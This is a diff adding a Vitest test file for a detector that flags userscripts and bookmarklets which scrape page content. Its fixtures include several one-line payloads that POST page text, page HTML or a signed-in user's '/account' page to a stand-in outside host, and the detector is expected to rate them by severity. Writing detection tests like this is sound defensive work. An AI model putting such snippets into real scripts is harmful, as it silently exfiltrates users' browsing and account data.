@@ -1,0 +1,52 @@
+import { describe, expect, test } from "vitest";
+import { findIn, userscript } from "../testing/find-in.ts";
+import { pageScraping } from "./page-scraping.ts";
+
+describe("page-scraping", () => {
+	test.each([
+		[
+			"text of every site",
+			["high 5"],
+			userscript(["match *://*/*"], `fetch("https://c.stranger.test/",{method:"POST",body:document.body.innerText})`),
+		],
+		[
+			"text of one site, by itself",
+			["medium 5"],
+			userscript(
+				["match https://shop.example/*"],
+				`fetch("https://c.stranger.test/",{method:"POST",body:document.body.innerText})`,
+			),
+		],
+		[
+			"what the site answers to a signed-in visitor",
+			["high 5"],
+			userscript(
+				["match https://shop.example/*"],
+				`fetch("/account").then(r=>r.text()).then(t=>fetch("https://c.stranger.test/",{method:"POST",body:t}))`,
+			),
+		],
+		[
+			"text sent silently by a bookmarklet",
+			["medium 1"],
+			`fetch("https://c.stranger.test/",{method:"POST",body:document.body.innerHTML})`,
+		],
+	])("finds %s", (_title, expected, code) => {
+		expect(findIn(pageScraping, code)).toEqual(expected);
+	});
+
+	test.each([
+		[
+			"a marked word looked up in a new page",
+			`window.open("https://dictionary.stranger.test/?q="+encodeURIComponent(getSelection().toString()))`,
+		],
+		[
+			"headings copied into a list",
+			userscript(
+				["match https://shop.example/*"],
+				`document.querySelectorAll("h2").forEach(h=>{const a=document.createElement("a");a.textContent=h.textContent;document.body.append(a)})`,
+			),
+		],
+	])("leaves alone %s", (_title, code) => {
+		expect(findIn(pageScraping, code)).toEqual([]);
+	});
+});
